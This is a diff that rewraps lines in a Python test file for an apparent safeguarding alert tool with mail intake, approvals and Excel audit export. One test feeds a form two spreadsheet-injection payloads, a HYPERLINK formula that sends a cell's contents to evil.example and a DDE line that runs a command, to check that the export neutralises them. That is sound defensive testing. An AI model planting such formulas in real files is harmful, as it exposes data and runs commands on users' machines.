@@ -46,12 +46,14 @@ def test_approval_that_adds_a_provider_or_names_an_unknown_alert_is_refused(
 
 def test_reject_tells_the_sender(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["reject", "HSA-2026-000001", "--by", "Dana", "--reason", "Consent position unclear."]) == 0
-    sent = [p.read_bytes() for p in (env / "mail" / "delivered" / "tamsin.holloway@coventry-council.test" / "new")
+    sent = [p.read_bytes()
+            for p in (env / "mail" / "delivered" / "tamsin.holloway@coventry-council.test" / "new")
             .iterdir()]
     assert any(b"Consent position unclear." in m for m in sent)
 
 
-def test_audit_export_writes_the_alert_history_workbook(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_audit_export_writes_the_alert_history_workbook(env: Path,
+                                                        capsys: pytest.CaptureFixture[str]) -> None:
     main(["approve", "HSA-2026-000001", "--by", "Dana Nightingale"])
     out = env / "history.xlsx"
     assert main(["audit", "export", "--alert", "HSA-2026-000001", str(out), "--by", "Designated Nurse"]) == 0
@@ -61,13 +63,15 @@ def test_audit_export_writes_the_alert_history_workbook(env: Path, capsys: pytes
     history = [row[3] for row in book["History"].iter_rows(min_row=2, values_only=True)]
     assert "alert approved" in history and "message received" in history
     versions = {row[0]: row[1] for row in book["Form versions"].iter_rows(values_only=True)}
-    assert versions["Decided by"] == "Dana Nightingale" and versions["Subject 1 Surname"] == samples.SUBJECT_SURNAME
+    assert (versions["Decided by"] == "Dana Nightingale"
+            and versions["Subject 1 Surname"] == samples.SUBJECT_SURNAME)
     assert book["History"].freeze_panes == "A2"
     assert main(["audit", "export", "--alert", "HSA-2026-000009", str(out)]) == 1
     assert main(["audit", "verify"]) == 0
 
 
-def test_reminders_at_any_instant_from_the_command_line(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_reminders_at_any_instant_from_the_command_line(env: Path,
+                                                        capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["reminders", "--now", "2026-12-25T08:00", "--without-prefect"]) == 0
     assert "2026-12-25 is not a working day in England and Wales" in capsys.readouterr().out
     assert main(["reminders", "--now", "not-a-date", "--without-prefect"]) == 2
@@ -76,7 +80,8 @@ def test_reminders_at_any_instant_from_the_command_line(env: Path, capsys: pytes
     assert "Reconciliation: no discrepancies" in capsys.readouterr().out
 
 
-def test_text_from_a_form_never_becomes_a_formula_in_the_export(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+def test_text_from_a_form_never_becomes_a_formula_in_the_export(tmp_path: Path,
+                                                               monkeypatch: pytest.MonkeyPatch,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
     from safeguard.mail.maildir import deliver
     monkeypatch.setenv("SAFEGUARD_MAILDIR", str(tmp_path / "mail" / "safeguarding"))
@@ -84,8 +89,9 @@ def test_text_from_a_form_never_becomes_a_formula_in_the_export(tmp_path: Path, 
     monkeypatch.setenv("SAFEGUARD_DATABASE_URL", f"sqlite:///{tmp_path / 'register.sqlite3'}")
     monkeypatch.chdir(ROOT)
     hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-    deliver(tmp_path / "mail" / "safeguarding", text_submission(**{"Reason for alert": hostile,
-                                                                   "Action requested if seen": "+cmd|' /C calc'!A0"}))
+    deliver(tmp_path / "mail" / "safeguarding",
+            text_submission(**{"Reason for alert": hostile,
+                               "Action requested if seen": "+cmd|' /C calc'!A0"}))
     assert main(["intake", "--once", "--without-prefect"]) == 0
     out = tmp_path / "history.xlsx"
     assert main(["audit", "export", "--alert", "HSA-2026-000001", str(out)]) == 0
